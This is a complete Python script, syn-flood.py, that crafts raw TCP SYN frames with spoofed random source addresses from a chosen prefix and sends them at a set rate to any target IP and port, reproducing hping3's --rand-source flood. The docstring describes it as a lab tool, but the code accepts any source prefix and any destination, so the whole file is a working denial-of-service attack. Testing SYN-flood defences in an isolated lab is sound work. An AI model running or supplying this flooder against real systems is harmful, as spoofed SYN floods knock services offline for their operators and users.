#!/usr/bin/env python3
"""syn-flood.py - TCP SYNs from many source addresses of one prefix.

Usage: syn-flood.py IFACE DST_MAC DST_IP PORT --sources CIDR [--count N] [--pps N]

Sends N SYNs (default 20000) to DST_IP:PORT out of IFACE as raw Ethernet frames
(AF_PACKET), each from a random address of CIDR (an IPv4 prefix, e.g.
198.19.0.0/16) and a random source port, at PPS frames per second (default 5000).
The flood of spoofed sources hping3's --rand-source makes, kept inside the lab's
own prefix. Prints the number of SYNs sent.

Exit codes: 0 sent, 1 usage error, 2 send failure.
"""

import argparse
import ipaddress
import random
import socket
import struct
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn_frame(src_mac, dst_mac, src, dst, sport, dport, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return dst_mac + src_mac + b"\x08\x00" + ip + tcp


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("iface")
    ap.add_argument("dst_mac")
    ap.add_argument("dst_ip")
    ap.add_argument("port", type=int)
    ap.add_argument("--sources", required=True)
    ap.add_argument("--count", type=int, default=20000)
    ap.add_argument("--pps", type=int, default=5000)
    a = ap.parse_args()
    try:
        net = ipaddress.IPv4Network(a.sources, strict=False)
        dst = ipaddress.IPv4Address(a.dst_ip).packed
        dst_mac = bytes.fromhex(a.dst_mac.replace(":", ""))
        assert len(dst_mac) == 6
    except (ValueError, AssertionError) as e:
        ap.error(str(e))
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((a.iface, 0))
    src_mac = sock.getsockname()[4][:6]
    rng = random.Random(0x5EED)
    start = time.monotonic()
    for i in range(a.count):
        src = (net.network_address + rng.randrange(1, net.num_addresses - 1)).packed
        frame = syn_frame(src_mac, dst_mac, src, dst, rng.randrange(1024, 65535), a.port, rng.getrandbits(32))
        try:
            sock.send(frame)
        except OSError as e:
            print(f"send failed after {i} frames: {e}", file=sys.stderr)
            return 2
        ahead = start + (i + 1) / a.pps - time.monotonic()
        if ahead > 0:
            time.sleep(ahead)
    print(a.count)
    return 0


if __name__ == "__main__":
    sys.exit(main())
